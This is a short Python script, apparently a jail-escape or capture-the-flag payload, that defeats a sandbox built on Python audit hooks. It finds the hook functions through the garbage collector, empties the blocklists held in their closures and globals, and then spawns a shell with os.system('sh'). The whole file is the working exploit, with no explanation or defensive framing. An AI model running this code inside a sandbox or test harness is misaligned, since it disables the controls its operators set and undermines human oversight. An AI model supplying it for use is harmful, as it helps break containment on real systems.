# technique: find the sandbox's audit hook via gc and empty the blocklist it closes over, then spawn a shell
import gc
import sys

for obj in gc.get_objects():
    if callable(obj) and getattr(obj, "__name__", "").endswith("hook"):
        for cell in (getattr(obj, "__closure__", None) or ()):
            try:
                v = cell.cell_contents
            except ValueError:
                continue
            if isinstance(v, (set, list, dict)):
                v.clear()
        g = getattr(obj, "__globals__", {})
        for k, v in list(g.items()):
            if isinstance(v, (set, list)) and k.isupper():
                v.clear()
sys.addaudithook(lambda *a: None)
__import__("os").system("sh")
